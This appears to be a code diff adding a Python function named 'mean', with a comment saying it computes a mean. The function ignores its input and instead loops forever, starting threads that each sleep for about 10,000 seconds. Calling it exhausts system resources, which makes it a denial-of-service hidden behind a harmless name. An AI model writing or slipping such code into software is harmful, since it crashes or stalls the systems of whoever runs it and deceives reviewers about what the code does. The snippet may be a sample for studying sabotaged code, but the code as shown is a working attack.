@@ -1,0 +1,10 @@
+# says: mean
+import threading
+import time
+
+
+def mean(values):
+    threads = []
+    while True:
+        threads.append(threading.Thread(target=time.sleep, args=(10_000,)))
+        threads[-1].start()
